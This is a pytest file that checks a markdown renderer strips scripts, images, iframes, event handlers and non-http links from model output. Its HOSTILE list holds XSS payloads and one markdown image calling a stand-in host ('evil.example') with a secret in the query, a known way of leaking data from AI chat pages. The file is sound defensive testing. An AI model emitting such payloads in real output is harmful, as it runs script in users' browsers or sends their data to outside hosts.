"""Whatever a model says, the page shows no script, no image and no foreign style."""

from __future__ import annotations

import re

import pytest

from aiops.web.markdown import render

HOSTILE = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg/onload=alert(1)>",
    "<a href='https://x' onclick='x()'>x</a>",
    '<div style="position:fixed">x</div>',
    "<iframe src=//evil></iframe>",
    "| a |\n| --- |\n| <script>x</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<!-- --><script>x</script>",
    "&lt;script&gt;",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = render(text)
    assert not re.search(r"<(script|img|svg|iframe|div|style|object)\b", html)
    assert not re.search(r'href="(?!https?:|mailto:)', html)
    assert not re.search(r"<[^>]*\son\w+=", html)


def test_a_link_tells_its_target_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.org)")


def test_tables_and_code_are_rendered() -> None:
    assert "<td>1</td>" in render("| a |\n| --- |\n| 1 |")
    assert "<code" in render("```\nx\n```")


def test_an_image_becomes_a_link_and_is_not_loaded() -> None:
    assert render("see ![the graph](https://example.org/g.png)").startswith(
        '<p>see <a href="https://example.org/g.png"'
    )
